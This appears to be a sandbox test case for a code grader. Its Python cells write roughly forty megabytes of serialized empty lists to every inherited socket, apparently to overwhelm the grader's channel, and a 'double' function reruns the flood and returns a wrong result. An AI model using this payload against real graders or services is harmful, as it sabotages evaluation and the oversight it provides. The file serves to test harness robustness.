# /// case
# title = "Forty megabytes of empty lists for the grader, then for the referee: 64 bytes each"
# loses = ["table", "double"]
# may_lose = "all"
# stock = "safe"
# ///
# %% table
import os
import stat
import struct

def bomb(count):
    data = b"\xdd" + struct.pack(">I", count) + b"\x90" * count
    data = struct.pack("!Q", len(data)) + data
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.set_blocking(fd, True)
                os.write(fd, data)
        except OSError:
            pass

bomb(10_000_000)
# %% double
def double(a):
    bomb(10_000_000)
    return a * 3
